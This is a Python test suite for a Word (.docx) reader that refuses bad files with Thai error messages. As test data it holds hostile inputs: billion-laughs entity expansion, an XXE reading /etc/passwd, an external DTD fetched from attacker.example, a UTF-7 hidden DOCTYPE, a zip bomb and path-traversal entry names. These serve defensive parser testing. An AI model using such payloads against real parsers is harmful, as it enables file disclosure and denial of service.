"""A file that can't be read as a Word file is refused by a Thai sentence that says what it is and what to do."""

import tracemalloc
import zipfile
from io import BytesIO

import pytest

from document.errors import ReportError
from document.grids import bounds
from document.grids import docx as reader
from document.grids.word import package, reading
from tests.document.grids.word_files import (
    PNG,
    document,
    docx,
    numbering,
    p,
    part,
    picture,
    r,
    relation,
    relations,
    tbl,
    tc,
    tr,
    zipped,
)

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


def ole(stream: str, first: bytes = b"") -> bytes:
    return OLE + first.ljust(512, b"\0") + stream.encode("utf-16-le") + bytes(100)


def refused(data: bytes) -> str:
    with pytest.raises(ReportError) as caught:
        reader.read(data)
    return str(caught.value)


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (b"", "ว่างเปล่า"),
        (b" \r\n", "ว่างเปล่า"),
        (b"%PDF-1.7\n", "PDF"),
        (PNG, "ภาพ PNG"),
        (b"{\\rtf1 x}", "บันทึกเป็น"),
        (b"<html><body>x</body></html>", "HTML"),
        ("รายงาน".encode(), "ไม่ใช่ไฟล์ Word"),
        (ole("EncryptedPackage"), "รหัสผ่าน"),
        (ole("WordDocument"), "รุ่นเก่า (.doc) โปรดเปิดด้วย Word แล้วเลือก แฟ้ม > บันทึกเป็น"),
        (ole("WordDocument", b"\xec\xa5" + bytes(9) + b"\1"), "รหัสผ่าน"),
        (ole("Workbook"), "(.xls)"),
        (b"PK\x05\x06" + bytes(18), "ZIP"),
        (b"PK\x03\x04" + bytes(200), "เสียหาย"),
        (zipped({"xl/workbook.xml": "<x/>"}), "Excel (.xlsx)"),
        (zipped({"ppt/presentation.xml": "<x/>"}), "PowerPoint (.pptx)"),
        (zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<x/>"}), "LibreOffice"),
        (zipped({"META-INF/MANIFEST.MF": "x", "A.class": "x"}), "Java (.jar)"),
        (zipped({"photo.png": "x"}), "ZIP"),
        (zipped({"word/styles.xml": "<x/>"}), "ไม่มีเนื้อหา"),
    ],
    ids=lambda each: each if isinstance(each, str) else "file",
)
def test_what_a_file_really_is(data: bytes, said: str) -> None:
    assert said in refused(data)


def test_a_main_part_of_another_program() -> None:
    files: dict[str, str | bytes] = {
        "_rels/.rels": relations(relation("d1", "officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
    }
    assert "Excel (.xlsx)" in refused(zipped(files))


@pytest.mark.parametrize("kept", [0.2, 0.5, 0.9, 0.999])
def test_a_file_that_was_cut(kept: float) -> None:
    data = docx(*("ยาว ๆ" * 50 for _ in range(50)))
    assert "เสียหายหรือถูกตัด" in refused(data[: int(len(data) * kept)])


def test_parts_that_are_not_where_the_index_says() -> None:
    data = bytearray(docx("ก"))
    at = data.rindex(b"PK\x05\x06") + 16
    data[at : at + 4] = (int.from_bytes(data[at : at + 4], "little") + 100_000).to_bytes(4, "little")
    assert "เสียหาย" in refused(bytes(data))


def test_a_file_with_damaged_words() -> None:
    data = bytearray(docx(*(f"ย่อหน้า {at}" for at in range(300))))
    with zipfile.ZipFile(BytesIO(bytes(data))) as container:
        at = container.getinfo("word/document.xml").header_offset + 200
    data[at : at + 40] = bytes(40)
    assert "เสียหาย" in refused(bytes(data))


@pytest.mark.parametrize(
    "main",
    [
        document("ก").removesuffix("</w:document>"),
        "",
        "ไม่ใช่ XML",
        document("ก").replace("</w:p>", "</w:q>"),
        document(p("<w:r><w:t>\x01</w:t></w:r>")),
        document("ก").replace("xmlns:w=", "xmlns:y="),
    ],
)
def test_words_that_are_no_xml(main: str) -> None:
    assert "เสียหาย" in refused(docx(parts={"word/document.xml": main}))


BILLION = "".join(f'<!ENTITY a{at} "{f"&a{at - 1};" * 10}">' for at in range(1, 10))


@pytest.mark.parametrize(
    "declared",
    [
        f'<!DOCTYPE w [<!ENTITY a0 "lol">{BILLION}]>',
        '<!DOCTYPE w [<!ENTITY a9 SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE w SYSTEM "http://attacker.example/x.dtd">',
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-16-le"])
@pytest.mark.parametrize("name", ["word/document.xml", "word/styles.xml", "word/_rels/document.xml.rels"])
def test_declarations_of_entities(declared: str, encoding: str, name: str) -> None:
    whole = part("document", f"<w:body>{p('<w:r><w:t>&a9;</w:t></w:r>')}</w:body>")
    whole = whole.replace("?>", "?>" + declared, 1).replace("UTF-8", encoding.partition("-le")[0])
    related = (relation("s1", "styles", "styles.xml"),)
    assert "DTD" in refused(docx("ก", related=related, parts={name: whole.encode(encoding)}))


def test_an_encoding_that_hides_a_declaration_is_not_believed() -> None:
    hidden = '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE w +AFsAXQA+-' + document("ก").partition("?>")[2]
    assert "เสียหาย" in refused(docx(parts={"word/document.xml": hidden}))


def test_words_in_utf_16_are_read() -> None:
    main = document("ภาษาไทย").replace("UTF-8", "UTF-16").encode("utf-16")
    assert [each.words for each in reader.read(docx(parts={"word/document.xml": main})).paragraphs()] == ["ภาษาไทย"]


def test_a_bomb() -> None:
    assert "ใหญ่ผิดปกติ" in refused(docx("ก", parts={"word/media/1.png": bytes(30 * bounds.MB)}))


def test_a_part_that_is_larger_than_the_index_says_is_unpacked_no_further() -> None:
    data = docx(parts={"word/document.xml": document("ข") + " " * (20 * bounds.MB)})
    with zipfile.ZipFile(BytesIO(data)) as container:
        size = container.getinfo("word/document.xml").file_size
    lying = data.replace(size.to_bytes(4, "little"), (1000).to_bytes(4, "little"))
    tracemalloc.start()
    said = refused(lying)
    _, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert "เสียหาย" in said
    assert most < bounds.MB


@pytest.mark.parametrize("name", ["../../etc/cron.d/x", "/etc/passwd", "word\\..\\..\\x", "WORD/DOCUMENT.XML"])
def test_names_of_parts_that_word_never_writes(name: str) -> None:
    assert "ชื่อซ้ำกันหรือผิดปกติ" in refused(docx("ก", parts={name: "x"}))


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_a_part_that_stands_twice() -> None:
    target = BytesIO(docx("ก"))
    with zipfile.ZipFile(target, "a") as container:
        container.writestr("word/document.xml", document("ข"))
    assert "ชื่อซ้ำกันหรือผิดปกติ" in refused(target.getvalue())


@pytest.mark.parametrize(
    ("body", "said"),
    [
        (("<w:p/>" * 201,), "ย่อหน้าเกิน 200"),
        ((r('<w:br w:type="page"/>').join(["<w:p>", *["</w:p><w:p>"] * 600, "</w:p>"]),), "หน้าเกิน 500"),
        ((tbl(tr(*["<w:tc><w:p/></w:tc>"] * 300)),), "คอลัมน์เกิน 200"),
        ((tbl(tr("<w:tc/>" * 150) * 3),), "ช่องตารางเกิน 400"),
        ((), "ว่างเปล่า ไม่มีข้อความ"),
        ((p(), tbl(tr(tc(p()))), p(r(" "))), "ว่างเปล่า ไม่มีข้อความ"),
    ],
    ids=["paragraphs", "pages", "columns", "cells", "no body", "no words"],
)
def test_too_much_and_nothing(monkeypatch: pytest.MonkeyPatch, body: tuple[str, ...], said: str) -> None:
    if "ย่อหน้า" in said:
        monkeypatch.setattr(reading, "MOST_PARAGRAPHS", 200)
    monkeypatch.setattr(reading, "MOST_CELLS", 400)
    assert said in refused(docx(*body))


def test_xml_that_would_fill_the_memory(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(package, "MOST_MARKS", 1000)
    assert "ส่วนประกอบเกิน" in refused(docx(*["ก"] * 200))
    assert "ส่วนประกอบเกิน" in refused(docx("<w:p a='' b='' c='' d=''/>" * 200))


def test_a_scan_is_refused_by_name_whatever_its_header_says() -> None:
    related = (relation("p1", "image", "media/1.png"), relation("h1", "header", "header1.xml"))
    parts: dict[str, str | bytes] = {"word/media/1.png": PNG, "word/header1.xml": part("hdr", p("เทศบาล"))}
    section = '<w:sectPr><w:headerReference w:type="default" r:id="h1"/></w:sectPr>'
    assert "มีแต่ภาพ" in refused(docx(p(picture()), p(picture()), section, related=related, parts=parts))


@pytest.mark.parametrize("wrap", ["w:smartTag", "w:customXml", "w:sdt", "w:ins", "mc:AlternateContent"])
def test_wraps_within_each_other_as_deep_as_xml_goes(wrap: str) -> None:
    inner = r("ลึก")
    opened = f"<{wrap}><mc:Choice Requires=''>" if wrap.startswith("mc") else f"<{wrap}>"
    closed = f"</mc:Choice></{wrap}>" if wrap.startswith("mc") else f"</{wrap}>"
    times = 245 // opened.count("<")
    found = reader.read(docx(p(opened * times + inner + closed * times), opened * times + p("นอก") + closed * times))
    assert [each.words for each in found.paragraphs()] == ["ลึก", "นอก"]
    assert "ซ้อนกันลึกเกินไป" in refused(docx(p(opened * 300 + inner + closed * 300)))


def test_relations_and_lists_that_lead_nowhere() -> None:
    related = (
        relation("s1", "styles", "../../../etc/passwd"),
        relation("n1", "numbering", "http://x.example/n.xml", external=True),
        relation("p1", "image", "../../../../etc/passwd"),
    )
    body = (p("ก", picture(), picture("none"), item=(7, 3), style="Missing"), p("ข", item=(-1, -1)))
    grid = reader.read(docx(*body, numbers=numbering({}, {7: 3}), related=related))
    assert [each.words for each in grid.paragraphs()] == ["ก", "ข"]
    assert list(grid.pictures()) == []
